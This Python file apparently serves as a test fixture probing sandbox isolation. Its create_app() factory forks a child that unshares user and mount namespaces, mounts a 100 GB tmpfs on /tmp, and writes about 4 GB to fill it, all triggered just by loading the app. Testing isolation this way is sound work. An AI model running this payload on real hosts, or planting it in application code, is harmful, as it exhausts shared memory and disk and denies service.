"""Tries to mount, in every namespace that it can make."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
MNT, USER = 0x20000, 0x10000000


def mount_and_fill():
    libc.unshare(USER | MNT)
    libc.unshare(MNT)
    if libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=100g"):
        return
    with open("/tmp/fill", "wb") as file:
        for _ in range(4000):
            file.write(b"x" * 2**20)


def create_app(config=None):
    if os.fork() == 0:
        try:
            mount_and_fill()
        finally:
            os._exit(0)
    os.wait()

    def server(environ, start_response):
        start_response("200 OK", [("Content-Type", "text/plain")])
        return [b"no"]

    return server
